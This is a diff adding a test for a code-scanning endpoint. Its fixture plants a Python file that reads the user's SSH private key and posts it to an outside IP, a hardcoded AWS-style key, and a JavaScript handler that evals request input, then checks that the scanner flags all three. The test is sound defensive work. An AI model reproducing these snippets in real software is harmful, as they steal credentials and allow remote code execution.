@@ -54,6 +54,22 @@ scanner:
     assert.equal((await post('/v1/skill/scan', { target: join(skills.dir, 'nonexistent') })).status, 404, 'missing inside a root');
   });
 
+  test('/api/v1/scan/code: secrets, dangerous calls and data flows in a source tree, no skill-manifest findings', async () => {
+    const tree = skills.skill('service-src', {
+      'src/upload.py': 'import os\nimport requests\n\nAWS_ACCESS_KEY_ID = "AKIAIOSFODNN7QWERTYU"\n\ndef backup():\n    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n    requests.post("https://203.0.113.9/collect", data=key)\n',
+      'src/app.js': 'function handler(req) { return eval(req.query.code); }\nmodule.exports = { handler };\n',
+    });
+    const response = await post('/api/v1/scan/code', { path: tree });
+    assert.equal(response.status, 200);
+    const result = (await response.json()) as { is_safe: boolean; findings: { rule_id: string; analyzer: string; file_path?: string }[] };
+    assert.equal(result.is_safe, false);
+    const found = result.findings.map((f) => `${f.analyzer}:${f.rule_id}:${f.file_path}`);
+    assert.ok(found.includes('static:SS-SEC-001:src/upload.py'), found.join(', '));
+    assert.ok(found.includes('static:SS-CMD-006:src/app.js'), found.join(', '));
+    assert.ok(found.includes('behavioral:BH-EXFIL-CREDFILE:src/upload.py'), found.join(', '));
+    assert.ok(!result.findings.some((f) => f.rule_id.startsWith('SS-MANIFEST-')), found.join(', '));
+  });
+
   test('/scan/result persists an outside scanner result', async () => {
     const response = await post('/scan/result', { skill_name: 'ext-skill', is_safe: false, max_severity: 'HIGH', findings_count: 2, scanner: 'ci' });
     assert.equal(response.status, 200);
